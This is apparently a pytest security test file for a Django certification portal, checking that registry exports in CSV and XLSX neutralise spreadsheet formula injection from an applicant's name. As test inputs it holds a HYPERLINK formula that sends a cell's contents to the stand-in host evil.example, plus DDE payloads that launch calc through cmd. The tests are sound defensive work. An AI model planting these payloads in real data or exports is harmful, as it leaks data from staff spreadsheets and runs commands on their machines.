"""Formula injection (OWASP "CSV injection"): an applicant whose name is a spreadsheet formula
must not get a live formula into the exports staff open in Excel or LibreOffice. The attack:
an applicant signs up as =HYPERLINK(...), is certified, and staff download the certificate
registry as CSV and as XLSX. Every export goes through lsp_portal.exports; the other ways a
cell can start a formula are checked on the helper itself."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lsp_portal import exports
from lsp_portal.accounts.roles import Role
from tests.conftest import make_user
from tests.security.conftest import certify

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"Klik di sini")'
STARTS = [
    HYPERLINK,
    "+62 812 3456 7890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def certified_attacker(staff, assessor, assessor_profile, tuk, technical, director):
    """An applicant named HYPERLINK, assessed, decided Kompeten and certified."""
    attacker = make_user("penyerang@example.org", HYPERLINK, Role.APPLICANT)
    certificate = certify(attacker, staff, assessor, assessor_profile, tuk, technical, director)
    assert certificate.holder_name == HYPERLINK and certificate.number
    return certificate


def download(client, kind):
    response = client.get(reverse("certificates:registry"), {"format": kind})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_registry_csv_holds_no_formula(client, staff, certified_attacker):
    client.force_login(staff)
    rows = list(csv.reader(io.StringIO(download(client, "csv").decode("utf-8-sig"))))
    assert rows[1][0] == certified_attacker.number
    assert rows[1][1] == "'" + HYPERLINK  # the text typed, after the apostrophe
    assert [cell for row in rows for cell in row if cell.startswith(exports.FORMULA_STARTS)] == []


def test_the_registry_xlsx_holds_no_formula(client, staff, certified_attacker):
    client.force_login(staff)
    sheet = load_workbook(io.BytesIO(download(client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    holder = sheet["B2"]
    assert holder.value == HYPERLINK and holder.data_type == "s" and holder.quotePrefix


@pytest.mark.parametrize("text", STARTS)
def test_every_formula_start_is_neutralised_in_both_formats(text):
    rows = [[text, "Nur-Aini", 350000]]
    csv_body = b"".join(exports.csv_response("x.csv", ["a", "b", "c"], rows).streaming_content)
    assert list(csv.reader(io.StringIO(csv_body.decode("utf-8-sig"))))[1] == [
        "'" + text,
        "Nur-Aini",
        "350000",
    ]
    xlsx = b"".join(exports.xlsx_response("x.xlsx", ["a", "b", "c"], rows, title="x"))
    sheet = load_workbook(io.BytesIO(xlsx)).active
    # A carriage return reads back as a line feed with the standard library's XML parser and as
    # itself with lxml (which openpyxl uses when installed, as pikepdf installs it).
    assert sheet["A2"].value in (text, text.replace("\r", "\n"))
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "Nur-Aini" and not sheet["B2"].quotePrefix
    assert sheet["C2"].value == 350000  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("Siti Nurhaliza", "Siti Nurhaliza"), ("-", "'-"), ("", ""), (None, "")],
)
def test_safe_text_changes_only_what_would_start_a_formula(value, safe):
    assert exports.safe_text(value) == safe
